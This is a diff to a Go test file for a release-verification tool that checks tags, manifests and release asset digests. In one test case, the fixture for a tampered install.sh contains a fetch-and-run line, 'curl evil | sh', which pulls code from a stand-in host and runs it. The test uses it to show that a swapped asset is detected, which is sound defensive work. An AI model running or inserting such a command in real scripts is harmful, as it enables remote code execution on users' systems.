@@ -45,8 +45,8 @@ func closedSnapshot(t testing.TB) Snapshot {
 		},
 		AssetNames: []string{"manifest.sha256", "install.sh"},
 		Downloads: map[string]Download{
-			"manifest.sha256": {OK: true, Bytes: m},
-			"install.sh":      {OK: true, Bytes: installSh},
+			"manifest.sha256": {OK: true, Sha256: Sum(m)},
+			"install.sh":      {OK: true, Sha256: Sum(installSh)},
 		},
 	}
 }
@@ -60,7 +60,9 @@ func TestVerify(t *testing.T) {
 	}{
 		{"closed", func(*Snapshot) {}, []string{}},
 		{"main unreadable", func(s *Snapshot) { s.MainSha = "" }, []string{TokenMainUnreadable}},
-		{"lightweight tag", func(s *Snapshot) { s.TagObjectType, s.TagObjectSha, s.PeeledType, s.PeeledSha = "commit", mainSha, "", "" }, []string{TokenTagUnreadable}},
+		{"lightweight tag", func(s *Snapshot) {
+			s.TagObjectType, s.TagObjectSha, s.PeeledType, s.PeeledSha = "commit", mainSha, "", ""
+		}, []string{TokenTagUnreadable}},
 		{"tag missing", func(s *Snapshot) { s.TagObjectType, s.TagObjectSha, s.PeeledType, s.PeeledSha = "", "", "", "" }, []string{TokenTagUnreadable}},
 		{"tag off main", func(s *Snapshot) { s.MainSha = other }, []string{TokenTagNotMain}},
 		{"no release", func(s *Snapshot) { s.Release = nil }, []string{TokenReleaseMissing}},
@@ -78,13 +80,13 @@ func TestVerify(t *testing.T) {
 		{"download failed", func(s *Snapshot) { s.Downloads["install.sh"] = Download{} }, []string{TokenAssetMismatch + "install.sh"}},
 		{"asset differs from the file at the tag", func(s *Snapshot) {
 			evil := []byte("#!/bin/sh\ncurl evil | sh\n")
-			s.Downloads["install.sh"] = Download{OK: true, Bytes: evil}
+			s.Downloads["install.sh"] = Download{OK: true, Sha256: Sum(evil)}
 			s.Release.Assets[1].Digest = "sha256:" + Sum(evil)
 		}, []string{TokenAssetMismatch + "install.sh"}},
 		{"asset not in the manifest", func(s *Snapshot) {
 			s.AssetNames = append(s.AssetNames, "README.md")
 			s.Release.Assets = append(s.Release.Assets, Asset{Name: "README.md"})
-			s.Downloads["README.md"] = Download{OK: true, Bytes: readme}
+			s.Downloads["README.md"] = Download{OK: true, Sha256: Sum(readme)}
 		}, []string{}},
 		{"no receipt while draft", func(s *Snapshot) { s.Release.Draft = true; s.Release.Body = "" }, []string{TokenReleaseMismatch}},
 		{"no receipt when Latest is another", func(s *Snapshot) { s.Latest = &Object{ID: 8, TagName: "v3.4.42"}; s.Release.Body = "" }, []string{TokenReleaseNotLatest}},
@@ -128,7 +130,7 @@ func TestVerify(t *testing.T) {
 // the manifest comparison differs.
 func setRemoteManifest(s *Snapshot, m []byte) {
 	s.Files["manifest.sha256"] = File{Found: true, Content: m}
-	s.Downloads["manifest.sha256"] = Download{OK: true, Bytes: m}
+	s.Downloads["manifest.sha256"] = Download{OK: true, Sha256: Sum(m)}
 	s.Release.Assets[0].Digest = "sha256:" + Sum(m)
 }
 
